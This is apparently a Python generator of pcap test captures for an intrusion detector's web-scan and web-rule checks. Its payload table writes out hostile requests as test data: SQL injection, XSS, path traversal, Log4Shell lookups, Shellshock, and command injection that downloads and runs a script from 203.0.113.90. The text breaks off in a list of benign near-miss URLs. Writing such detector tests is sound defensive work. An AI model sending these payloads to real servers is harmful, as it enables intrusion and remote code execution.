#!/usr/bin/env python3
"""Write the captures of the T3 pcap cases (docs/detectors/webscan.md, docs/detectors/webrules.md):

    tests/pcap/dt_webscan_dirbrute/input.pcap   gobuster-style brute force and a soft-404 sweep
    tests/pcap/dt_webscan_benign/input.pcap     busy but legitimate web clients (no alert)
    tests/pcap/dt_webrules_payloads/input.pcap  one or more requests for every rule group
    tests/pcap/dt_webrules_benign/input.pcap    ordinary URLs that look a little like attacks

usage: tools/gen_dt_webscan_pcaps.py [--out tests/pcap] [CASE ...]   (default: all four)

Each case folder also gets a README.md written from what the generator recorded (hosts, times,
counts, every request of the payload case); expect.yaml is kept by hand next to it and states
the alerts mamori must give. Deterministic: fixed seeds and start times, so two runs write
byte-identical files. Addresses: HOME_NET 192.168.10.0/24; outside hosts use the
documentation ranges 198.51.100.0/24 and 203.0.113.0/24.
"""

import argparse
import os
import random
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pcapgen as pg  # noqa: E402

WEB = "192.168.10.80"
WEB2 = "192.168.10.81"
MAC_GW = "00:09:0f:3a:10:01"
BROWSER_UA = (b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              b"Chrome/124.0.0.0 Safari/537.36")


def mac_of(ip):
    """A stable locally administered MAC per internal host; the gateway's for outside ones."""
    if not ip.startswith("192.168.10."):
        return MAC_GW
    return "02:00:5e:10:00:%02x" % int(ip.rsplit(".", 1)[1])


def request(method, uri, host, ua=BROWSER_UA, headers=(), body=b"", ctype=None):
    """One HTTP/1.1 request; uri and header values are bytes as they go on the wire."""
    h = [b"%s %s HTTP/1.1" % (method, uri), b"Host: " + host]
    if ua is not None:
        h.append(b"User-Agent: " + ua)
    h.append(b"Accept: */*")
    h.extend(headers)
    if body or method == b"POST":
        if ctype:
            h.append(b"Content-Type: " + ctype)
        h.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(h) + b"\r\n\r\n" + body


REASONS = {200: b"OK", 204: b"No Content", 301: b"Moved Permanently", 302: b"Found",
           400: b"Bad Request", 401: b"Unauthorized", 403: b"Forbidden", 404: b"Not Found",
           405: b"Method Not Allowed", 500: b"Internal Server Error"}


def response(status, body=None, ctype=b"text/html; charset=UTF-8", extra=()):
    if body is None:
        body = b"<html><body><h1>%d %s</h1></body></html>\n" % (status, REASONS[status])
    h = [b"HTTP/1.1 %d %s" % (status, REASONS[status]), b"Date: Tue, 07 May 2024 01:00:00 GMT",
         b"Server: Apache/2.4.58 (Ubuntu)", b"Content-Length: %d" % len(body),
         b"Content-Type: " + ctype]
    h.extend(extra)
    return b"\r\n".join(h) + b"\r\n\r\n" + body


class Gen:
    """One capture: a Capture, a seeded rng, a start time, and facts for the README."""

    def __init__(self, start_iso, seed):
        self.t0 = pg.ts_from_iso(start_iso)
        self.rng = random.Random(seed)
        self.cap = pg.Capture()
        self.next_port = {}
        self.facts = []
        self.requests = []  # (t_rel, client, server, method, uri, status, note)

    def port_for(self, host):
        p = self.next_port.get(host, 41000 + self.rng.randrange(0, 10000))
        p = p + 1 if p < 60999 else 41000
        self.next_port[host] = p
        return p

    def conn(self, t_rel, client, server, exchanges, port=80, gap=0.05):
        """One keep-alive connection from t_rel: exchanges are (request bytes, response bytes)
        pairs, gap seconds apart; closed by the client. Returns the time it ended."""
        clock = pg.Clock(self.t0 + pg.ns(t_rel), self.rng)
        s = pg.TcpSession(self.cap, clock, (client, self.port_for(client)), (server, port),
                          framer=pg.eth_framer(mac_of(client), mac_of(server)), rng=self.rng,
                          rtt=0.002)
        s.handshake()
        for i, (req, resp) in enumerate(exchanges):
            if i:
                s.wait(gap)
            s.client(req)
            s.wait(0.003)
            s.server(resp)
        s.close()
        return (clock.now - self.t0) / pg.NS_PER_S

    def iso(self, t_rel):
        ns = self.t0 + pg.ns(t_rel)
        return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ns // 10**9)) + \
            ".%03dZ" % (ns // 10**6 % 1000)

    def write(self, folder, title, intro):
        os.makedirs(folder, exist_ok=True)
        self.cap.write_pcap(os.path.join(folder, "input.pcap"))
        lines = ["# %s" % os.path.basename(folder), "", title, "", intro, "",
                 "## What is in input.pcap", "",
                 "Written by `tools/gen_dt_webscan_pcaps.py` (deterministic; do not edit by hand). "
                 "%d packets. HOME_NET is 192.168.10.0/24." % len(self.cap), ""]
        lines += ["- " + f for f in self.facts]
        if self.requests:
            lines += ["", "## Requests", "",
                      "| time | client -> server | request | status | expected |",
                      "|---|---|---|---|---|"]
            for t, c, srv, m, uri, st, note in self.requests:
                u = uri.decode("latin-1").replace("|", "\\|")
                if len(u) > 90:
                    u = u[:90] + "..."
                lines.append("| %s | %s -> %s | `%s %s` | %d | %s |" % (
                    self.iso(t)[11:], c, srv, m.decode(), u, st, note.replace("|", "\\|")))
        lines += ["", "The expected alerts are in `expect.yaml` (exact counts by signature and "
                  "addresses).", ""]
        with open(os.path.join(folder, "README.md"), "w") as f:
            f.write("\n".join(lines))


# ------------------------------------------------------------------------------------ cases

WORDS = ["about", "account", "admin", "ajax", "api", "archive", "assets", "blog", "cache", "cart",
         "catalog", "cms", "contact", "content", "css", "data", "demo", "dev", "docs", "download",
         "error", "events", "export", "feed", "files", "forum", "gallery", "help", "home", "images",
         "img", "import", "include", "index", "js", "lib", "login", "logs", "media", "members",
         "news", "old", "pages", "private", "products", "public", "search", "shop", "staff",
         "static", "stats", "store", "support", "system", "temp", "templates", "tools", "upload",
         "uploads", "user"]
SUFFIXES = ["", "s", "2", "_old", "-new", ".html", ".txt", "1", "_files", "-2023"]


def case_dirbrute(out):
    g = Gen("2024-05-07T01:00:00Z", 3101)
    # gobuster from 203.0.113.70: 300 paths in about 15 s over 10 keep-alive connections.
    found = {"/admin": 301, "/images": 301, "/css": 301, "/js": 301, "/about.html": 200,
             "/contact.html": 200, "/index.html": 200, "/login": 200, "/uploads": 403,
             "/static": 301}
    paths = ["/" + w + s for s in SUFFIXES for w in WORDS][:300]
    statuses = {}
    t = 0.0
    for c in range(10):
        ex = []
        for p in paths[c * 30:(c + 1) * 30]:
            st = found.get(p, 404)
            statuses[st] = statuses.get(st, 0) + 1
            extra = (b"Location: http://www.sakura-trading.example%s/" % p.encode(),) \
                if st == 301 else ()
            ex.append((request(b"GET", p.encode(), b"www.sakura-trading.example",
                               ua=b"gobuster/3.6"), response(st, extra=extra)))
        end = g.conn(t, "203.0.113.70", WEB, ex, gap=0.04)
        t = end + 0.01
    g.facts.append("gobuster (User-Agent `gobuster/3.6`) from 203.0.113.70 to %s:80: 300 GET "
                   "requests for distinct paths from %s to %s over 10 keep-alive connections; "
                   "answers %s." % (WEB, g.iso(0), g.iso(t), ", ".join(
                       "%d x %d" % (n, st) for st, n in sorted(statuses.items()))))
    # A soft-404 site (every path answered 200 by a single-page application) swept by a tool
    # with an ordinary old browser User-Agent, as dirb sends: 150 distinct paths in 20 s.
    t2 = 60.0
    ex = []
    for i in range(150):
        p = "/" + WORDS[i % len(WORDS)] + SUFFIXES[(i // len(WORDS)) % len(SUFFIXES)] + "/"
        ex.append((request(b"GET", p.encode(), b"app.sakura-trading.example:8080",
                           ua=b"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"),
                   response(200, body=b"<html><body><div id=app></div></body></html>\n")))
    end = 0.0
    for c in range(5):
        end = g.conn(t2 + c * 4.0, "203.0.113.71", WEB2, ex[c * 30:(c + 1) * 30], port=8080,
                     gap=0.1)
    g.facts.append("Directory sweep of a soft-404 site: 203.0.113.71 to %s:8080, 150 GET "
                   "requests for 150 distinct paths from %s to %s over 5 connections, all "
                   "answered 200, User-Agent `Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)` "
                   "(no scanner name)." % (WEB2, g.iso(t2), g.iso(end)))
    g.write(os.path.join(out, "dt_webscan_dirbrute"),
            "Directory brute forcing seen by its behaviour (webscan, sid 6100:3001 and 3002).",
            "The gobuster run crosses the 4xx burst (20 x 404 in 60 s, >= 50 % of answers) and, "
            "at about its 100th new path, the URI sweep; the soft-404 sweep has no 4xx at all and "
            "is found by the sweep alone. Each activity is reported once when it crosses its "
            "threshold and once more, with the final figures, at the end of input. Only the "
            "gobuster User-Agent rule of mamori-web.rules fires (the wordlist holds no probe "
            "path of the rule file).")


def case_benign_behaviour(out):
    g = Gen("2024-05-07T02:00:00Z", 3102)
    host = b"www.sakura-trading.example"
    # A browser loading a heavy page: 1 page + 140 assets, each with the page as Referer,
    # over 6 parallel connections, within 4 s; two missing favicons.
    assets = [b"/static/js/chunk-%03d.js" % i for i in range(100)] + \
             [b"/static/img/p%02d.webp" % i for i in range(40)]
    ref = (b"Referer: http://www.sakura-trading.example/catalog/",)
    g.conn(0.0, "192.168.10.21", WEB, [(request(b"GET", b"/catalog/", host), response(200))])
    for c in range(6):
        ex = []
        for a in assets[c::6]:
            ex.append((request(b"GET", a, host, headers=ref), response(200, body=b"x" * 64,
                                                                       ctype=b"text/plain")))
        if c < 2:
            ex.append((request(b"GET", b"/favicon-%d.ico" % c, host, headers=ref), response(404)))
        g.conn(0.2 + c * 0.01, "192.168.10.21", WEB, ex, gap=0.02)
    g.facts.append("192.168.10.21 loads /catalog/ and 140 assets (Referer set) plus 2 missing "
                   "icons (404) within about 4 s at %s." % g.iso(0))
    # Monitoring: /server-status?auto every 10 s for 5 minutes, and /actuator/health.
    for i in range(30):
        g.conn(10.0 + i * 10.0, "192.168.10.5", WEB, [
            (request(b"GET", b"/server-status?auto", b"localhost", ua=b"munin/2.0.73"),
             response(200, body=b"Total Accesses: 1\nBusyWorkers: 1\n", ctype=b"text/plain")),
            (request(b"GET", b"/actuator/health", b"localhost", ua=b"Zabbix"),
             response(200, body=b'{"status":"UP"}', ctype=b"application/json"))])
    g.facts.append("Monitoring 192.168.10.5: /server-status?auto and /actuator/health every 10 s "
                   "for 5 minutes from %s (60 requests, all 200)." % g.iso(10.0))
    # A user following old bookmarks: 19 broken links (404) among 25 requests in 60 s.
    ex = []
    for i in range(25):
        st = 404 if i < 19 else 200
        ex.append((request(b"GET", b"/old/page-%d.html" % i, host), response(st)))
    g.conn(400.0, "192.168.10.22", WEB, ex, gap=2.4)
    g.facts.append("192.168.10.22 at %s: 25 requests in 60 s, 19 of them 404 (one short of the "
                   "burst threshold)." % g.iso(400.0))
    # A crawler: 60 pages in 120 s, all found, no Referer.
    for c in range(6):
        ex = [(request(b"GET", b"/news/article-%d.html" % (c * 10 + i), host,
                       ua=b"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
               response(200)) for i in range(10)]
        g.conn(500.0 + c * 20.0, "198.51.100.150", WEB, ex, gap=2.0)
    g.facts.append("bingbot from 198.51.100.150 at %s: 60 distinct pages in 120 s, all 200."
                   % g.iso(500.0))
    g.write(os.path.join(out, "dt_webscan_benign"),
            "Busy but legitimate web clients: no webscan alert and no T3 rule alert.",
            "Each of these is a pattern the behaviour detector must not take for a scan: many "
            "distinct URIs with Referer (a page's assets), steady monitoring polls of status "
            "pages, a user with broken bookmarks below the 4xx threshold, a polite crawler.")


# (method, uri, extra headers, body, content type, status, response body, expected rules)
PAYLOADS = [
    # 1. scanner user agents (one request each; the agent is the only signal)
    (b"GET", b"/", {"ua": b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"}, b"", None, 200, None, "8101003"),
    (b"GET", b"/", {"ua": b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)"}, b"", None, 200, None, "8101004"),
    (b"GET", b"/", {"ua": b"Mozilla/5.0 zgrab/0.x"}, b"", None, 200, None, "8101005"),
    (b"GET", b"/", {"ua": b"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"}, b"", None, 200, None, "8101007"),
    (b"GET", b"/", {"ua": b"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"}, b"", None, 200, None, "8101008"),
    (b"GET", b"/", {"ua": b"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}, b"", None, 200, None, "8101009"),
    (b"GET", b"/", {"h": [b"Acunetix-Product: WVS/5.0 (Acunetix Web Vulnerability Scanner - NORMAL)"]}, b"", None, 200, None, "8101010"),
    (b"GET", b"/", {"ua": b"Nessus SOAP v0.0.1 (Nessus.org)"}, b"", None, 200, None, "8101011"),
    (b"GET", b"/", {"ua": b"Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"}, b"", None, 200, None, "8101012"),
    (b"GET", b"/", {"ua": b"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; w3af.org)"}, b"", None, 200, None, "8101013"),
    (b"GET", b"/", {"ua": b"Fuzz Faster U Fool v2.1.0-dev"}, b"", None, 200, None, "8101014"),
    (b"GET", b"/", {"ua": b"feroxbuster/2.10.1"}, b"", None, 200, None, "8101015"),
    (b"GET", b"/", {"ua": b"Mozilla/4.0 (Hydra)"}, b"", None, 200, None, "8101016"),
    (b"GET", b"/", {"ua": b"Wfuzz/3.1.0"}, b"", None, 200, None, "8101017"),
    (b"GET", b"/", {"ua": b"Mozilla/5.0 SF/2.10b"}, b"", None, 200, None, "8101018"),
    (b"GET", b"/", {"ua": b"Arachni/v1.5.1"}, b"", None, 200, None, "8101019"),
    (b"GET", b"/", {"ua": b"commix/v3.8-stable (https://commixproject.com)"}, b"", None, 200, None, "8101020"),
    (b"GET", b"/", {"ua": b"ZmEu"}, b"", None, 200, None, "8101021"),
    (b"GET", b"/", {"h": [b"X-Scanner: Netsparker"]}, b"", None, 200, None, "8101022"),
    (b"GET", b"/", {"ua": b"WhatWeb/0.5.5"}, b"", None, 200, None, "8101023"),
    (b"GET", b"/", {"ua": b"Mozilla/5.0 Jorgee"}, b"", None, 200, None, "8101024"),
    (b"GET", b"/", {"ua": b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)"}, b"", None, 200, None, "none: 8101004 already alerted for this pair within the hour"),
    (b"GET", b"/nmaplowercheck1715043600", {}, b"", None, 404, None, "8101025"),
    (b"GET", b"/?url=http://c2vvnp7x.burpcollaborator.net/", {}, b"", None, 200, None, "8101026"),
    (b"GET", b"/contact", {"h": [b"Referer: http://q8x1.oastify.com/"]}, b"", None, 200, None, "8101030"),
    (b"GET", b"/?cb=c2vvnp7x.interact.sh", {}, b"", None, 200, None, "8101028"),
    # 2. probe paths
    (b"GET", b"/.env.local", {}, b"", None, 404, None, "8102001"),
    (b"GET", b"/app/.git/HEAD", {}, b"", None, 404, None, "8102002"),
    (b"GET", b"/.svn/wc.db", {}, b"", None, 404, None, "8102003"),
    (b"GET", b"/.hg/hgrc", {}, b"", None, 404, None, "8102003"),
    (b"GET", b"/.htpasswd", {}, b"", None, 403, None, "8102004"),
    (b"GET", b"/.aws/credentials", {}, b"", None, 404, None, "8102005"),
    (b"GET", b"/.ssh/id_rsa", {}, b"", None, 404, None, "8102005"),
    (b"GET", b"/wp-login.php", {}, b"", None, 200, None, "8102006"),
    (b"GET", b"/wp-login.php", {"h": [b"Cookie: wordpress_test_cookie=WP%20Cookie%20check"]}, b"", None, 200, None, "none: a browser with the WordPress cookie"),
    (b"GET", b"/xmlrpc.php", {}, b"", None, 405, None, "8102007"),
    (b"POST", b"/xmlrpc.php", {}, b"<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params></params></methodCall>", b"text/xml", 200, None, "8102008"),
    (b"GET", b"/phpMyAdmin-5.2.1/index.php", {}, b"", None, 404, None, "8102009"),
    (b"GET", b"/manager/html", {}, b"", None, 401, None, "8102011"),
    (b"GET", b"/actuator/heapdump", {}, b"", None, 404, None, "8102015"),
    (b"GET", b"/server-info", {}, b"", None, 403, None, "8102016"),
    (b"GET", b"/server-status?auto", {}, b"", None, 200, None, "none: the monitoring form"),
    (b"GET", b"/cgi-bin/test-cgi", {}, b"", None, 404, None, "8102017"),
    (b"POST", b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", {}, b"<?php echo md5(\"mm\"); ?>", b"text/plain", 404, None, "8102033"),
    (b"GET", b"/boaform/admin/formLogin?username=admin&psd=admin", {}, b"", None, 404, None, "8102034"),
    (b"GET", b"/HNAP1/", {}, b"", None, 404, None, "8102035"),
    (b"GET", b"/GponForm/diag_Form?images/", {}, b"", None, 404, None, "8102036"),
    (b"GET", b"/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.90/x.sh;sh+x.sh", {}, b"", None, 404, None, "8102037 8106001 8106004"),
    (b"GET", b"/wp-config.php~", {}, b"", None, 404, None, "8102023"),
    (b"GET", b"/db.sql", {}, b"", None, 404, None, "8102024"),
    (b"GET", b"/elmah.axd", {}, b"", None, 404, None, "8102021"),
    (b"GET", b"/composer.json", {}, b"", None, 200, None, "8102029"),
    (b"GET", b"/wso.php", {}, b"", None, 404, None, "8102032"),
    (b"GET", b"/_async/AsyncResponseService", {}, b"", None, 404, None, "8102045"),
    (b"GET", b"/admin/..;/manager/", {}, b"", None, 404, None, "8102046"),
    (b"GET", b"/pma/", {}, b"", None, 200, None, "8102010"),
    (b"GET", b"/jmx-console/", {}, b"", None, 200, None, "8102012"),
    (b"POST", b"/invoker/JMXInvokerServlet", {}, b"\xac\xed\x00\x05", b"application/x-java-serialized-object", 200, None, "8102013"),
    (b"GET", b"/solr/admin/cores?action=STATUS", {}, b"", None, 200, None, "8102014"),
    (b"GET", b"/info.php", {}, b"", None, 200, None, "8102018"),
    (b"GET", b"/storage/logs/laravel.log", {}, b"", None, 200, None, "8102019"),
    (b"GET", b"/debug/pprof/", {}, b"", None, 200, None, "8102020"),
    (b"GET", b"/_profiler/latest", {}, b"", None, 200, None, "8102022"),
    (b"GET", b"/backup.tar.gz", {}, b"", None, 200, None, "8102025"),
    (b"GET", b"/www.zip", {}, b"", None, 200, None, "8102026"),
    (b"GET", b"/.DS_Store", {}, b"", None, 200, None, "8102027"),
    (b"GET", b"/docker-compose.yml", {}, b"", None, 200, None, "8102028"),
    (b"GET", b"/WEB-INF/web.xml", {}, b"", None, 200, None, "8102030"),
    (b"GET", b"/web.config", {}, b"", None, 200, None, "8102031"),
    (b"GET", b"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", {}, b"", None, 200, None, "8102038"),
    (b"POST", b"/tmUnblock.cgi", {}, b"submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+%60cd+%2Ftmp%60", b"application/x-www-form-urlencoded", 200, None, "8102039"),
    (b"POST", b"/picsdesc.xml", {}, b"<?xml version=\"1.0\"?><s:Envelope/>", b"text/xml", 200, None, "8102040"),
    (b"POST", b"/ctrlt/DeviceUpgrade_1", {}, b"<?xml version=\"1.0\"?><s:Envelope><NewStatusURL>$(/bin/busybox wget -g 203.0.113.90 -l /tmp/x -r /x)</NewStatusURL></s:Envelope>", b"text/xml", 200, None, "8102041"),
    (b"POST", b"/soap.cgi?service=WANIPConn1", {}, b"<NewRemoteHost></NewRemoteHost>", b"text/xml", 200, None, "8102042"),
    (b"GET", b"/cgi-bin/luci/;stok=abcd/locale?form=country&operation=write&country=$(id)", {}, b"", None, 200, None, "8102043 8106005"),
    (b"GET", b"/wls-wsat/CoordinatorPortType", {}, b"", None, 200, None, "8102044"),
    (b"GET", b"/", {"h": [b"X-Forwarded-Host: q8x1.burpcollaborator.net"]}, b"", None, 200, None, "8101029"),
    (b"GET", b"/?u=http://abc.oast.live/", {}, b"", None, 200, None, "8101027"),
    (b"GET", b"/", {"h": [b"X-Callback: c2vvnp7x.interact.sh"]}, b"", None, 200, None, "8101031"),
    # 3. SQL injection
    (b"GET", b"/item.php?id=1+UNION/**/SELECT+1,2,3", {}, b"", None, 200, None, "8103001 8103014"),
    (b"GET", b"/item.php?id=1'or'1'='1", {}, b"", None, 200, None, "8103002"),
    (b"GET", b"/item.php?id=1+AND+BENCHMARK(5000000,MD5(1))", {}, b"", None, 200, None, "8103005"),
    (b"GET", b"/item.php?id=1+UNION+SELECT+table_name+FROM+information_schema.tables", {}, b"", None, 200, None, "8103001 8103006"),
    (b"GET", b"/item.php?id=1%3BDROP+TABLE+users", {}, b"", None, 200, None, "8103010"),
    (b"GET", b"/item.php?id=-1+UNION+SELECT+LOAD_FILE(0x2f6574632f706173737764)", {}, b"", None, 200, None, "8103001 8103011"),
    (b"GET", b"/item.php?id=1%3BEXEC+master..xp_cmdshell+'ping+203.0.113.90'", {}, b"", None, 200, None, "8103010 8103015"),
    (b"GET", b"/item.php?id=1+INTO+OUTFILE+'/var/www/html/s.php'", {}, b"", None, 200, None, "8103016"),
    (b"GET", b"/item.php?id=1'+AND+'a'='b", {}, b"", None, 200, b"<b>Warning</b>: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version\n", "8103017 8110002 (the answer leaks a database error)"),
    (b"POST", b"/login.php", {}, b"user=admin'+--+&pass=x", b"application/x-www-form-urlencoded", 302, None, "8103104"),
    (b"POST", b"/search.php", {}, b"q=x'+UNION+SELECT+1,2--", b"application/x-www-form-urlencoded", 200, None, "8103101"),
    (b"POST", b"/item.php", {}, b"id=1+or+1%3D1", b"application/x-www-form-urlencoded", 200, None, "8103102"),
    (b"POST", b"/item.php", {}, b"id=1+AND+SLEEP(5)", b"application/x-www-form-urlencoded", 200, None, "8103103"),
    (b"POST", b"/item.php", {}, b"id=1+UNION+SELECT+schema_name+FROM+information_schema.schemata", b"application/x-www-form-urlencoded", 200, None, "8103101 8103105"),
    (b"GET", b"/item.php?id=1'||'1'='1", {}, b"", None, 200, None, "8103018 8103013"),
    (b"GET", b"/item.php?id=1+%26%26+1=1", {}, b"", None, 200, None, "8103019"),
    (b"POST", b"/item.php", {}, b"id=1+AND+BENCHMARK(5000000,MD5(1))", b"application/x-www-form-urlencoded", 200, None, "8103106"),
    (b"POST", b"/item.php", {}, b"id=1%3BWAITFOR+DELAY+'0:0:5'--", b"application/x-www-form-urlencoded", 200, None, "8103107 8103104"),
    (b"POST", b"/item.php", {}, b"id=1+AND+@@version>0", b"application/x-www-form-urlencoded", 200, None, "8103108"),
    (b"POST", b"/item.php", {}, b"id=1+or+sort=price", b"application/x-www-form-urlencoded", 200, None, "none: a keyword and an equals sign, but no comparison"),
    (b"POST", b"/api/item", {}, b"{\"id\":\"1 UNION SELECT 1\"}", b"application/json", 200, None, "none: JSON bodies are not inspected for SQL"),
    # 4. XSS
    (b"GET", b"/?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", {}, b"", None, 200, None, "8104002"),
    (b"GET", b"/login?next=javascript:alert(document.domain)", {}, b"", None, 200, None, "8104003 8104005"),
    (b"GET", b"/?q=%3Csvg/onload%3Dprompt(1)%3E", {}, b"", None, 200, None, "8104002 8104004"),
    (b"GET", b"/?q=%3Ciframe+src%3D//203.0.113.90/x%3E", {}, b"", None, 200, None, "8104004"),
    # 5. path traversal
    (b"GET", b"/download?file=..%2f..%2f..%2fetc%2fshadow", {}, b"", None, 404, None, "8105001 8105003 8105006"),
    (b"GET", b"/static/%252e%252e/%252e%252e/etc/hosts", {}, b"", None, 404, None, "8105001 8105004"),
    (b"GET", b"/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", {}, b"", None, 400, None, "8105005 8105006"),
    (b"GET", b"/view?f=..%5c..%5c..%5cwindows%5cwin.ini", {}, b"", None, 200, None, "8105001 8105003 8105007"),
    (b"GET", b"/?page=/proc/self/environ", {}, b"", None, 200, None, "8105008"),
    (b"POST", b"/export", {}, b"file=../../../../etc/passwd", b"application/x-www-form-urlencoded", 200, None, "8105101"),
    (b"GET", b"/download?file=../../../../etc/passwd", {}, b"", None, 200, b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n", "8105001 8105006 8110001 (the answer is the password file)"),
    (b"POST", b"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", {}, b"echo;id", b"application/x-www-form-urlencoded", 200, b"uid=1(daemon) gid=1(daemon) groups=1(daemon)\n", "8105001 8105002 8106101 8110003 (CVE-2021-41773; the answer is id's output)"),
    # 6. command injection
    (b"GET", b"/ping.php?ip=127.0.0.1;id", {}, b"", None, 200, b"PING ok\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\n", "8106001 8110003"),
    (b"GET", b"/ping.php?ip=127.0.0.1|cat+/etc/passwd", {}, b"", None, 200, None, "8106002 8105006"),
    (b"POST", b"/ping.php", {}, b"ip=127.0.0.1|id", b"application/x-www-form-urlencoded", 200, None, "8106102"),
    (b"POST", b"/ping.php", {}, b"ip=%60whoami%60", b"application/x-www-form-urlencoded", 200, None, "8106103"),
    (b"POST", b"/ping.php", {}, b"ip=$(uname+-a)", b"application/x-www-form-urlencoded", 200, None, "8106104"),
    (b"GET", b"/ping.php?ip=%60whoami%60", {}, b"", None, 200, None, "8106003"),
    (b"GET", b"/ping.php?ip=$(uname+-a)", {}, b"", None, 200, None, "8106005"),
    (b"GET", b"/ping.php?ip=127.0.0.1%26%26curl+-s+http://203.0.113.90/x|sh", {}, b"", None, 200, None, "8106002 8106004"),
    # 7. Log4Shell
    (b"GET", b"/?x=%24%7B%24%7Blower:j%7Dndi:%24%7Blower:l%7Ddap://203.0.113.90/a%7D", {}, b"", None, 200, None, "8107001"),
    (b"GET", b"/", {"ua": b"${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.90/a}"}, b"", None, 200, None, "8107002"),
    (b"GET", b"/account", {"h": [b"Cookie: session=${jndi:dns://203.0.113.90/a}"]}, b"", None, 200, None, "8107003"),
    (b"POST", b"/api/login", {}, b"{\"user\":\"${j${k8s:k5:-ND}i:ldap://203.0.113.90/a}\"}", b"application/json", 401, None, "8107004"),
    (b"POST", b"/api/greet", {}, b"{\"template\":\"Hello ${user.name}\"}", b"application/json", 200, None, "none: an ordinary template"),
    (b"POST", b"/contact", {}, b"name=x&msg=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.90%2Fa%7D", b"application/x-www-form-urlencoded", 200, None, "8107005"),
    (b"GET", b"/index.php?-d+auto_prepend_file%3d/etc/passwd", {}, b"", None, 200, None, "8109004 8105006"),
    # 8. Shellshock
    (b"GET", b"/cgi-bin/status", {"ua": b"() { :; }; echo; /bin/id"}, b"", None, 200, None, "8108001"),
    (b"GET", b"/cgi-bin/status", {"h": [b"Cookie: () { _; } >_[$($())] { echo; }"]}, b"", None, 200, None, "8108002"),
    # 9. PHP
    (b"GET", b"/index.php?page=php://filter/convert.base64-encode/resource=index.php", {}, b"", None, 200, None, "8109001"),
    (b"POST", b"/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", {}, b"<?php echo 1; ?>", b"text/plain", 200, None, "8109001 8109002 8109004"),
    (b"GET", b"/index.php?%ADd+allow_url_include%3d1", {}, b"", None, 200, None, "8109002 (CVE-2024-4577 soft hyphen)"),
    (b"GET", b"/index.php?cmd=%3C?php+system('id')%3B?%3E", {}, b"", None, 200, None, "8109003"),
]


def case_payloads(out):
    g = Gen("2024-05-07T03:00:00Z", 3103)
    host = b"www.sakura-trading.example"
    # 8 requests per keep-alive connection, 1 s apart: the burst detector sees at most a few
    # 4xx per minute and fewer than 100 distinct paths, so only the rules speak.
    t = 0.0
    n4 = 0
    times_4xx, times_all = [], []
    for c in range(0, len(PAYLOADS), 8):
        ex = []
        for i, (m, uri, kw, body, ctype, st, rbody, note) in enumerate(PAYLOADS[c:c + 8]):
            req = request(m, uri, host, ua=kw.get("ua", BROWSER_UA), headers=kw.get("h", ()),
                          body=body, ctype=ctype)
            times_all.append(t + i * 1.0)
            if 400 <= st < 500:
                n4 += 1
                times_4xx.append(t + i * 1.0)
            ex.append((req, response(st, body=rbody)))
            g.requests.append((t + i * 1.0, "203.0.113.90", WEB, m, uri, st, note))
        end = g.conn(t, "203.0.113.90", WEB, ex, gap=1.0)
        t = end + 1.0
    # No 60 s with >= 20 4xx that are also >= half of the answers: webscan stays quiet.
    peak, share = 0, 0.0
    for x in times_all:
        n = sum(1 for u in times_4xx if x <= u < x + 60.0)
        a = sum(1 for u in times_all if x <= u < x + 60.0)
        if n >= 20 and 2 * n >= a:
            raise SystemExit("payload case: %d 4xx of %d within 60 s would raise webscan" % (n, a))
        if n > peak:
            peak, share = n, n / a
    g.facts.append("203.0.113.90 to %s:80: %d requests, one or two per rule, from %s to %s, "
                   "about 1 s apart, 8 per keep-alive connection; %d answered 4xx, at most %d "
                   "within 60 s (%.0f %% of the answers there: below webscan's burst test)."
                   % (WEB, len(PAYLOADS), g.iso(0), g.iso(t), n4, peak, 100 * share))
    g.write(os.path.join(out, "dt_webrules_payloads"),
            "Every group of data/mamori-web.rules on requests written for it.",
            "Each request below carries one attack form (or, marked none, a near miss that must "
            "not alert); the expected column lists the sids it must raise. Encoded forms "
            "(%2e%2e, %252e, overlong UTF-8, %AD, Log4Shell lookups) are as sent on the wire. "
            "The attack_response rules (sid 8110001-8110003) fire only on the answers that "
            "follow an attack on the same connection.")


BENIGN = [
    (b"GET", b"/search?q=select+a+plan+from+the+list", None, None, 200, None),
    (b"GET", b"/search?q=rock+and+roll", None, None, 200, None),
    (b"GET", b"/search?q=it%27s+--+great", None, None, 200, None),
    (b"GET", b"/search?q=cats+%26+dogs+or+birds", None, None, 200, None),
    (b"GET", b"/search?q=1%3D1+is+always+true", None, None, 200, None),
    (b"GET", b"/search?q=how+to+use+wget", None, None, 200, None),
    (b"GET", b"/search?q=sleep+well+tonight", None, None, 200, None),
    (b"GET", b"/search?q=%3Cb%3Ebold%3C%2Fb%3E", None, None, 200, None),
    (b"GET", b"/maps/api/js?key=abc&callback=initMap&onload=init", None, None, 200, None),
